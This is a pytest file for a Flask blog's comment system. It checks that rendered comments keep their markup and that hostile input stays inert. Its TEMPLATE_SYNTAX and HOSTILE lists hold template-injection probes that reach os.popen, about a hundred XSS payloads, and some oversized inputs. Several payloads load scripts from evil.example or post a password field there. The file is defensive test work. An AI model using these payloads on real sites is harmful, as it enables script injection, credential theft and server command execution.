"""The markup that readers' tools hold on to, and hostile text: judged on the page, by an HTML5 parser."""

import re

import pytest
from flask import Flask
from markupsafe import Markup
from sqlalchemy import text as sql

from blog.articles.models import Article
from blog.comments.reading import comment_html
from blog.extensions import db
from blog.lib import clock
from tests.comments.judge import by_class, complaints, parsed, words_of
from tests.factories.articles import make_published
from tests.factories.comments import make_comment, make_thread
from tests.people import MIA, NOOR, join
from tests.visitor import Visitor, signed_in

TEMPLATE_SYNTAX = [
    "{{ 7*7 }}",
    "{{text}}",
    "{{ text }} {{user}} {{datetime}}",
    "{% raw %}",
    "{% endraw %}{{ 7*7 }}",
    "{# gone? #}",
    "{% include 'layouts/page.html' %}",
    "{{ config }} {{ ''.__class__.__mro__ }}",
    "{{ url_for('accounts.login') }}",
    "${7+7} #{7+7} <%= 7+7 %> {7+7}",
    "%(user)s %s {0} {user}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
]

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.example'</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "</div></article></li></ol><h1>Mine now</h1>",
    "</p></div></article></main><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://a.example' onclick='alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](\\\\evil.example\\path)",
    "[x](/\\evil.example)",
    "[x](javascript:123)",
    "[x](tel:0123456789)",
    "[x](ftp://a.example/)",
    "[x](\x01javascript:alert(1))",
    "[x](https://a.example \"title' onmouseover='alert(1)\")",
    '[x](https://a.example "t" onmouseover="alert(1)")',
    '[x](https://a.example/"><script>alert(1)</script>)',
    "<javascript:alert(1)>",
    '<https://a.example/?q="onmouseover="alert(1)>',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](/media/own.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/'onmouseover='alert(1)",
    "http://a.example\u202ehttp://evil.example",
    "data:text/html,hello javascript:alert(1) urn:x webcal:y",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "    <script>alert(1)</script>",
    "# heading <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "> <script>alert(1)</script>",
    "- <svg/onload=alert(1)>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "x{: onclick=alert(1) }",
    "*[x]: <script>alert(1)</script>\nx",
    '<div markdown="1"><script>alert(1)</script></div>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scrıpt>alert(1)</scrıpt> ＜script＞alert(1)＜/script＞",
    "\u202eeht ot txet esrever\u202c \u2066x",
    "a" + "\u0301" * 500,
    "\x02stx\x03\x02klzzwxh:0000\x03",
    "\x1b[31mred\x1b[0m \x07",
    "\ufffe\uffff \U000e0001",
    "[" * 3_000,
    "*" * 9_000,
    "`" * 9_000,
    "- " * 495,
    "> " * 400 + "deep",
    "<" * 5_000,
    "[a](" * 2_000,
    "![" * 3_000,
    "<a " * 3_000,
    "x" * 10_000,
    "http://a.b/" + "(" * 8_000,
]


@pytest.fixture
def article(app: Flask) -> Article:
    return make_published(app, slug="disk-full")


def test_a_comment_has_the_markup_that_tools_hold_on_to(app: Flask, client: Visitor, article: Article) -> None:
    comment = make_comment(app, article, text="Hello *there*.")
    page = client.get("/postmortems/disk-full").text
    assert f'<article class="comment" id="comment-{comment.id}">' in page
    assert re.search(r'<time class="comment-datetime" datetime="\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ">', page)
    (element,) = by_class(parsed(page), "comment")
    assert element.tag == "article" and element.get("id") == f"comment-{comment.id}"
    (user,), (time,), (text,) = (by_class(element, f"comment-{name}") for name in ("user", "datetime", "text"))
    assert words_of(user) == "Mia" and time.tag == "time" and words_of(text) == "Hello there."
    assert time.get("datetime") == comment.created_at.strftime("%Y-%m-%dT%H:%M:%SZ")


def test_the_template_takes_three_values_and_escapes_what_is_not_trusted(app: Flask) -> None:
    with app.app_context():
        made = comment_html(user="<b>{{ 7*7 }}", at=clock.now(), text=Markup("<p>{{ user }}</p>"))
        unsafe = comment_html(user="Mia", at=clock.now(), text="<script>")  # type: ignore[arg-type]
    assert "&lt;b&gt;{{ 7*7 }}" in made and "<p>{{ user }}</p>" in made and "<script>" not in unsafe


@pytest.mark.parametrize("typed", TEMPLATE_SYNTAX)
def test_template_syntax_prints_as_written(app: Flask, client: Visitor, article: Article, typed: str) -> None:
    signed_in(client, MIA)
    client.post("/postmortems/disk-full/comments", data={"text": typed})
    (text,) = by_class(parsed(client.get("/postmortems/disk-full").text), "comment-text")
    assert words_of(text) == typed
    preview = client.post("/comments/preview", data={"text": typed, "article": "disk-full"}).text
    (shown,) = by_class(parsed(preview), "comment-text")
    assert words_of(shown) == typed


def test_template_syntax_in_a_name_prints_as_written(app: Flask, client: Visitor, article: Article) -> None:
    join(app, MIA)
    with app.app_context():
        db.session.execute(sql("UPDATE users SET name = '{{text}} {% raw %} <b>' WHERE name = 'Mia'"))
        db.session.commit()
    make_comment(app, article, text="{{user}}")
    (comment,) = by_class(parsed(client.get("/postmortems/disk-full").text), "comment")
    assert words_of(by_class(comment, "comment-user")[0]) == "{{text}} {% raw %} <b>"
    assert words_of(by_class(comment, "comment-text")[0]) == "{{user}}"


def test_no_hostile_text_gets_more_onto_the_page_than_a_comment_may_hold(
    app: Flask, client: Visitor, article: Article
) -> None:
    """All of them on one page: each must leave the others, and the page around them, alone."""
    signed_in(client, MIA)
    for typed in HOSTILE:
        answer = client.post("/postmortems/disk-full/comments", data={"text": typed})
        assert answer.status_code in (303, 400), f"{answer.status_code} for {typed[:60]!r}"
        preview = client.post("/comments/preview", data={"text": typed, "article": "disk-full"})
        for text in by_class(parsed(preview.text), "comment-text"):
            assert list(complaints(text)) == [], typed[:60]
    make_comment(app, article, user=NOOR, text="The last word.")
    seen = 0
    for number in (1, 2, 3, 4):
        page = client.get(f"/postmortems/disk-full?page={number}")
        assert page.status_code == 200
        root = parsed(page.text)
        for text in by_class(root, "comment-text"):
            seen += 1
            assert list(complaints(text)) == [], words_of(text)[:80]
        assert {one.get("src", "") for one in root.iter("script")} == {
            one.get("src", "") for one in parsed(client.get("/account/settings").text).iter("script")
        }
        assert not [one for one in root.iter() if any(name.startswith("on") for name in one.attrib)]
        assert len(by_class(root, "site-footer")) == 1 and len(list(root.iter("h1"))) == 1
    assert seen > 90 and "The last word." in page.text


def test_hostile_text_comes_back_inert_in_the_form(app: Flask, client: Visitor, article: Article) -> None:
    signed_in(client, MIA)
    typed = "</textarea><script>alert(1)</script>" + "x" * 10_000
    answer = client.post(
        "/postmortems/disk-full/comments", data={"text": typed, "parent_id": '"><script>', "anchor": '"><b>'}
    )
    assert answer.status_code == 400
    answer = client.post("/postmortems/disk-full/comments", data={"text": typed, "anchor": '"><b>'})
    root = parsed(answer.text)
    assert words_of(next(root.iter("textarea"))) == typed
    assert all(one.get("src") for one in root.iter("script")) and not list(root.iter("b"))


@pytest.mark.parametrize("column", ["html", "text", "anchor", "kind", "state", "renderer_version", "hidden_reason"])
def test_a_hostile_row_written_by_sql_leaves_the_page_alone(
    app: Flask, client: Visitor, article: Article, column: str
) -> None:
    """`html` counts only with the renderer's version beside it, so such a row shows its text, rendered anew."""
    broken, fine = make_thread(app, article, [None, None])
    value = "<script>alert(1)</script>\ufffe{{ 7*7 }}"
    with app.app_context():
        change = f"UPDATE comments SET {column} = :value, renderer_version = 'foreign' WHERE id = :id"
        if column == "renderer_version":
            change = "UPDATE comments SET renderer_version = :value WHERE id = :id"
        db.session.execute(sql(change), {"value": value, "id": broken})
        db.session.commit()
    page = client.get("/postmortems/disk-full")
    assert page.status_code == 200 and f"comment-{fine}" in page.text
    root = parsed(page.text)
    assert all(one.get("src") for one in root.iter("script"))
    assert f"comment-{broken}" in {one.get("id") for one in root.iter()}


def test_parents_that_make_no_sense_leave_the_page_alone(app: Flask, client: Visitor, article: Article) -> None:
    other = make_published(app)
    foreign, *_ = make_thread(app, other, [None])
    first, second, third, fourth = make_thread(app, article, [None, 0, 1, None])
    with app.app_context():
        db.session.execute(sql("UPDATE comments SET parent_id = :x WHERE id = :y"), {"x": third, "y": second})
        db.session.execute(sql("UPDATE comments SET parent_id = :x WHERE id = :y"), {"x": foreign, "y": fourth})
        db.session.commit()
    page = client.get("/postmortems/disk-full")
    ids = {one.get("id") for one in by_class(parsed(page.text), "comment")}
    assert page.status_code == 200 and {f"comment-{one}" for one in (first, second, third)} <= ids
    for comment_id in (first, second, third, fourth):
        assert client.get(f"/comments/{comment_id}").status_code == 302


def test_a_reader_gets_nothing_personal(app: Flask, client: Visitor, article: Article) -> None:
    make_comment(app, article)
    answer = client.get("/postmortems/disk-full")
    assert "csrf" not in answer.text and "Set-Cookie" not in answer.headers
    assert '<a class="button" href="/account/login?next=/postmortems/disk-full%23comments">' in answer.text
    assert "/reply" not in answer.text and "<textarea" not in answer.text
    signed_in(client, MIA)
    assert "<textarea" in client.get("/postmortems/disk-full").text
